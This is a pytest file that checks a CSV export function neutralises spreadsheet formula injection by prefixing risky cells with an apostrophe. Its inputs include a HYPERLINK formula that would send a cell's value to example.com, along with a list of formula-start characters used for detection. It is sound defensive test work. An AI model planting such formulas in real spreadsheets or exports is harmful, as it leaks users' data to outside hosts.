from __future__ import annotations

import csv
import io
from datetime import datetime
from decimal import Decimal

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboards.csv_text import to_csv

# Written out anew: the rule must not lose one unseen.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("dtype", ["str", "object", "category"])
def test_text_that_looks_like_a_formula_is_made_inert(start: str, dtype: str) -> None:
    formula = f'{start}HYPERLINK("http://example.com/?" & A1)'
    frame = pd.DataFrame({"title": pd.Series([formula, "MUG = CUP", None], dtype=dtype)})
    written = pd.read_csv(io.StringIO(to_csv(frame), newline=""))
    assert written["title"].tolist()[:2] == [f"'{formula}", "MUG = CUP"]
    assert written["title"].isna().tolist() == [False, False, True]


def test_what_is_no_text_stays_as_it_is() -> None:
    frame = pd.DataFrame(
        {
            "change": [-1.5, 2.0],
            "unit_count": [-3, 4],
            "revenue": [Decimal("-12.30"), None],
            "at": [datetime(2026, 1, 5, 10, 30), None],
            "is_new": [True, False],
        }
    )
    assert to_csv(frame) == frame.to_csv(index=False, lineterminator="\r\n")
    assert to_csv(frame).splitlines()[1] == "-1.5,-3,-12.30,2026-01-05 10:30:00,True"


@given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\0"))))
def test_no_cell_begins_a_formula_and_none_is_lost(texts: list[str]) -> None:
    frame = pd.DataFrame({"title": pd.Series(texts, dtype="str"), "row": range(len(texts))})
    cells = [row[0] for row in csv.reader(io.StringIO(to_csv(frame), newline=""))][1:]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert [cell.removeprefix("'") if cell != text else cell for cell, text in zip(cells, texts, strict=True)] == texts
